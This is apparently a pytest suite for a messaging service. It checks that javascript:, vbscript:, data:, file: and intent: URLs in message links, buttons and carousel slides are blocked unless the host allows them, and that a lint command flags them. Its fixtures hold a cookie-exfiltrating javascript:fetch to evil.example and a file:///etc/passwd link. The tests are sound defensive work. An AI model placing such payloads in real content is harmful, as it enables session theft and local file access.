"""Safe by default for hosts that are web pages or editors: no row link, button URL, slide or image
handed to the host uses javascript:, vbscript:, data:, file: or intent: unless the host allows it."""

from __future__ import annotations

import json
import subprocess

import pytest

from conftest import BIN, assert_result

HOSTILE = {
    "ios_title": "Win a prize",
    "content": "Tap to claim",
    "inbox_days": 7,
    "link": "javascript:fetch('https://evil.example/?c='+document.cookie)",
    "data": {
        "displayType": "captioned",
        "image": "data:image/svg+xml;base64,PHN2Zz4=",
        "buttons": [
            {"title": "Open", "url": "file:///etc/passwd"},
            {"title": "App", "url": "intent://scan/#Intent;scheme=zxing;end"},
            {"title": "Site", "url": "https://example.com"},
        ],
    },
}

SLIDES = {
    "ios_title": "Slides",
    "content": "Swipe",
    "inbox_days": 7,
    "data": {
        "displayType": "carousel",
        "carousel": [
            {"image": "vbscript:msgbox(1)"},
            {"image": "https://cdn.example.com/1.png", "url": "JavaScript:alert(1)"},
            {"image": "https://cdn.example.com/2.png", "url": "myapp://product/2"},
        ],
    },
}


def strip_custom_data(value):
    if isinstance(value, dict):
        return {k: strip_custom_data(v) for k, v in value.items() if k != "customData"}
    if isinstance(value, list):
        return [strip_custom_data(v) for v in value]
    return value


def unsafe_warnings(server) -> list[dict]:
    return [n["params"]["data"] for n in server.notifications
            if n.get("method") == "log" and n["params"]["data"].get("code") == "unsafeScheme"]


@pytest.mark.parametrize("framing", ["ndjson"])
def test_denied_schemes_never_reach_the_host_and_each_is_named(spawn, framing):
    server = spawn(framing=framing)
    assert "result" in server.call("message.ingest", {"id": "hostile", "payload": HOSTILE})
    assert "result" in server.call("message.ingest", {"id": "slides", "payload": SLIDES})
    card = server.call("message.get", {"id": "hostile"})["result"]
    assert card["rowAction"] == {"type": "none"}
    assert [b["title"] for b in card["buttons"]] == ["Site"]
    assert card["image"] is None and card["kind"] == "classic"  # captioned without its image
    slides = server.call("message.get", {"id": "slides"})["result"]["carousel"]
    assert [s["image"] for s in slides] == ["https://cdn.example.com/1.png", "https://cdn.example.com/2.png"]
    assert [s["url"] for s in slides] == [None, "myapp://product/2"]
    server.ping()
    reasons = " ".join(w["reason"] for w in unsafe_warnings(server))
    for scheme in ("javascript:", "file:", "intent:", "vbscript:", "data:"):
        assert f"the {scheme} scheme" in reasons, reasons
    wire = bytes(server.stdout_all).decode()
    results = [json.loads(line) for line in wire.splitlines() if '"result"' in line]
    # customData is the marketer's own data, passed through as written: the host reads it, never opens it.
    handed = json.dumps([strip_custom_data(r["result"]) for r in results]).lower()
    for scheme in ("javascript:", "vbscript:", "file:", "intent:", "data:"):
        assert scheme not in handed, scheme


def test_a_host_that_allows_a_scheme_gets_it(spawn):
    server = spawn()
    reply = server.call("initialize", {"attributes": {"allowedSchemes": ["file", "JavaScript"]}})
    assert reply["result"]["attributes"]["allowedSchemes"] == ["file", "javascript"]
    assert "result" in server.call("message.ingest", {"id": "hostile", "payload": HOSTILE})
    card = server.call("message.get", {"id": "hostile"})["result"]
    assert card["rowAction"]["url"].startswith("javascript:")
    assert [b["title"] for b in card["buttons"]] == ["Open", "Site"]  # intent: is still denied
    refused = server.call("config.set", {"attributes": {"allowedSchemes": ["file:"]}})
    assert refused["error"]["code"] == -32602


def test_lint_reports_unsafe_schemes(tmp_path):
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(HOSTILE))
    done = subprocess.run([BIN, "lint", "--now", "1790000000", str(path)], capture_output=True, timeout=10)
    assert done.returncode == 1, done.stdout + done.stderr
    text = done.stdout.decode()
    assert text.count("warning [unsafeScheme]") == 4, text
    for scheme in ("javascript:", "file:", "intent:", "data:"):
        assert f"the {scheme} scheme" in text, text
